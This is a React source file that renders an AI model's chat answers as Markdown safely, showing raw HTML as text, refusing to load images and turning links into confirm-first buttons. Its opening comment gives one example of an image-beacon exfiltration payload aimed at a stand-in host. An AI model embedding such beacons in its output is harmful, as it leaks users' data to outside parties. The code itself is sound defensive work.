// A model's answer as Markdown, with nothing in it able to reach the network
// or run: raw HTML is shown as the text it is, images are never loaded (a
// remote image is a beacon: `![x](https://evil/leak?d=secret)`), and links are
// buttons that ask first, so no href ever exists for a stray click to follow.
import ReactMarkdown, { type Components } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { t } from '../../i18n/t';
import { useLinks } from '../../stores/link-store';
import { htmlAsText } from './markdown-html-as-text';
import './chat-answer.css';

function LinkButton({ href, children }: { href?: string; children: React.ReactNode }) {
  const ask = useLinks((state) => state.ask);
  if (!href) return <span>{children}</span>;
  return (
    <button type="button" className="chat-md-link" title={href} onClick={() => ask(href)}>
      {children}
      <span className="sr-only"> ({t('chat.link.open')})</span>
    </button>
  );
}

function ImageAsLink({ src, alt }: { src?: string; alt?: string }) {
  const label = t('chat.image.notLoaded', { alt: alt?.trim() || t('chat.image.noAlt') });
  return (
    <span className="chat-md-image" title={t('chat.image.why')} data-image-not-loaded>
      <span>{label}</span> {src ? <LinkButton href={src}>{src}</LinkButton> : null}
    </span>
  );
}

const components: Components = {
  a: ({ href, children }) => <LinkButton href={href}>{children}</LinkButton>,
  img: ({ src, alt }) => <ImageAsLink src={typeof src === 'string' ? src : undefined} alt={alt} />,
};

const remarkPlugins = [remarkGfm, htmlAsText];

export function Markdown({ text }: { text: string }) {
  return (
    <div className="chat-msg-text chat-md">
      <ReactMarkdown remarkPlugins={remarkPlugins} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
}
